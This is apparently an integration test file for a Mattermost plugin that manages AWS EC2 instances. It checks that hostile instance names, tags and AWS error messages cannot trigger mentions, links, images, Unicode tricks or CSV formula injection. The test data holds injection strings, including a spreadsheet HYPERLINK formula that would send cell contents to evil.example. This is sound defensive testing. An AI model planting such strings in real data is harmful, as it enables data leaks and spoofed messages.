/** Texts of AWS that mean to call somebody, to link, to show an image, or to look like a line of the bot's. */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import type { Post } from '@mattermost/types/posts';
import { outsideCode } from '../../server/sidecar/src/render/testing/outside-code.ts';
import { readCsv } from '../../server/sidecar/src/render/testing/read-csv.ts';
import { HOSTILE_ID, hostileInstanceXml } from '../aws/hostile-instance.ts';
import { beginAnew } from '../harness/begin-anew.ts';
import { attachmentOf, press } from '../harness/buttons.ts';
import { Cloud } from '../harness/cloud.ts';
import { eventually } from '../harness/eventually.ts';
import type { Person } from '../harness/person.ts';
import { PLUGIN_ID, World } from '../harness/world.ts';

const REGION = 'us-west-2';

/** What somebody who may tag would write, by what they are after. */
const TEXTS: Readonly<Record<string, string>> = {
  'a call of everybody': '@channel @all @here @bob',
  'a way out of the code span': '` @channel `` @all ``` @here',
  'a way out of the table': 'x | y |\n| z | @bob | @channel |',
  'a link': '[all is well](https://evil.example/a) https://evil.example/b www.evil.example <https://evil.example/c>',
  'an image': '![x](https://evil.example/a.png) <img src="https://evil.example/b.png">',
  'a line of the bot': 'x`\n✅ **Stopped 3 instances** in 4 s\n`y',
  'tags, channels, emoji and formulas': '#hashtag ~machines :smile: $$x^2$$ # heading\n---\n> quote\n- list',
  'another direction of reading': 'a\u202egnp.exe\u2066b\u2069\u200f\u061c',
  'what cannot be seen': 'we\u200bb-\u2060pr\u00add\ufeff\u{e0041}',
  'breaks of lines of all kinds': 'a\rb\u2028c\u2029d\u0085e\tf',
  'a formula': '=HYPERLINK("https://evil.example/?"&A1,"open")',
  'a formula behind a blank': ' \t＝1+1',
};

/** The links below `info`, which are ours: to AWS itself, and to nothing but the instance and its region. */
const OWN_LINK =
  /\[(AWS console|Session Manager)\]\(https:\/\/us-west-2\.console\.aws\.amazon\.com\/[a-z0-9/?=#:-]+\)/gi;

let cloud: Cloud;
let world: World;
let admin: Person;

beforeAll(async () => {
  cloud = await Cloud.start();
  world = await World.start({ settings: cloud.settings() });
  // A bot calls only those who share a channel with it: of a bot that is no member this would find nothing.
  await world.root.client.addToTeam(world.teamId, await world.botId());
  await world.root.client.addToChannel(await world.botId(), world.channel.channelId);
});
afterAll(async () => {
  await world.close();
  await cloud.stop();
});
beforeEach(async () => {
  admin = await beginAnew(world, cloud);
  await world.admin.configure(PLUGIN_ID, { regions: REGION });
});

/** From now on the fleet is one instance with this text wherever one can be. */
function play(text: string): void {
  const body = hostileInstanceXml({ name: text, everywhere: text });
  cloud.proxy.addRules({ do: 'answer', action: 'DescribeInstances', body });
}

async function mentionsOfBob(): Promise<number> {
  return (await world.bob.client.getMyChannelMember(world.channel.channelId)).mention_count;
}

/** All Markdown of a post: its text, and what stands below it. */
function markdownOf(post: Post): string[] {
  const below = attachmentOf(post);
  return [post.message, below?.fallback ?? '', below?.footer ?? '', ...(below?.fields ?? []).map(({ value }) => value)];
}

/**
 * What the server made of a post, and what stands in it: nothing has come alive. (It notes hashtags and public channels in
 * code spans as well, as anybody's; no client makes a link of them there.)
 */
async function expectHarmless(id: string, mentionsBefore: number): Promise<void> {
  const post = await admin.client.getPost(id);
  // The server leaves out what is empty, whatever the type says.
  const { embeds = [], images = {}, emojis = [] } = post.metadata as Partial<Post['metadata']>;
  expect(embeds.map(({ type }) => type).filter((type) => type !== 'message_attachment')).toEqual([]);
  expect({ images, emojis }).toEqual({ images: {}, emojis: [] });
  expect(await mentionsOfBob()).toBe(mentionsBefore);
  expectDead(post);
}

/** Nothing in a post stands outside code spans that would come alive in a client. */
function expectDead(post: Post): void {
  for (const text of markdownOf(post)) {
    expect(text).not.toMatch(/[\u061c\u200b-\u200f\u2028-\u202e\u2060\u2066\u2067\ufeff\u00ad\u{e0041}\r\u0085]/u);
    for (const line of text.split('\n')) {
      expect(outsideCode(line).replaceAll(OWN_LINK, '')).not.toMatch(
        /[@#~]\w|:\w+:|evil|www|Stopped 3|!?\]\(|<\w|\$\$|^> |^---|^- /,
      );
      expect(line).not.toMatch(/^✅/);
    }
  }
}

describe.each(Object.entries(TEXTS))('%s', (_, text) => {
  test('in names, tags, reasons, addresses and the rest comes to nothing in a listing, in info and on a card', async () => {
    play(text);
    const before = await mentionsOfBob();
    const listing = await admin.command(
      world.channel,
      '/ec2ctl ls --columns name,id,type,state,region,zone,private,tags',
    );
    await expectHarmless((await listing.post(/1 instance/)).id, before);
    const info = await admin.command(world.channel, `/ec2ctl info ${HOSTILE_ID}`);
    await expectHarmless((await info.post(/is running/)).id, before);
    const card = await admin.command(world.channel, '/ec2ctl stop state:running');
    const question = await card.post(/\*\*Stop .*\?\*\*/s);
    await expectHarmless(question.id, before);
    await press(admin, question, 'Cancel');
    await expectHarmless((await card.version(question.id, /Cancelled/)).id, before);
  });

  test('in what AWS says to a change comes to nothing, in the post and for the admin alone', async () => {
    const id = await cloud.seedOne({ region: REGION, name: 'box' });
    const denied = { status: 403, code: 'UnauthorizedOperation', message: text };
    cloud.proxy.addRules({ do: 'refuse', action: 'StopInstances', ...denied });
    const before = await mentionsOfBob();
    const exchange = await admin.command(world.channel, `/ec2ctl stop -i ${id}`);
    const post = await exchange.post();
    await exchange.version(post.id, /❌/);
    await expectHarmless(post.id, before);
    expectDead(await exchange.ephemeral(/UnauthorizedOperation/));
  });

  test('in a file of the listing is no formula, and one cell of one row', async () => {
    play(text);
    const exchange = await admin.command(world.channel, '/ec2ctl ls --csv --columns name,id,tags');
    const { id } = await exchange.post();
    const post = await exchange.until(id, 'the file', ({ file_ids: ids }) => ids?.length === 1);
    const response = await fetch(admin.client.getFileUrl(post.file_ids?.[0] ?? '', 0), {
      headers: { Authorization: `Bearer ${admin.token}` },
    });
    // Shown by a browser it would be a page of the server.
    expect(response.headers.get('content-disposition')).toMatch(/^attachment/);
    // `text` of a response takes a byte order mark away.
    const rows = readCsv(Buffer.from(await response.arrayBuffer()).toString());
    expect(rows.map((cells) => cells.length)).toEqual([3, 3]);
    expect(rows[1]?.[1]).toBe(HOSTILE_ID);
    for (const cell of rows.flat()) {
      expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠\t\r]/u);
      expect(cell).not.toMatch(/[\n\r\u2028\u2029\u202e\u200b]/u);
    }
  });
});

test('the same text by a person does come alive: what is looked for above is found', async () => {
  const before = await mentionsOfBob();
  const { id } = await admin.write(world.channel, Object.values(TEXTS).join('\n'));
  await eventually(async () => (await mentionsOfBob()) > before, { what: 'the mention of bob' });
  await expect(expectHarmless(id, before)).rejects.toThrow();
});
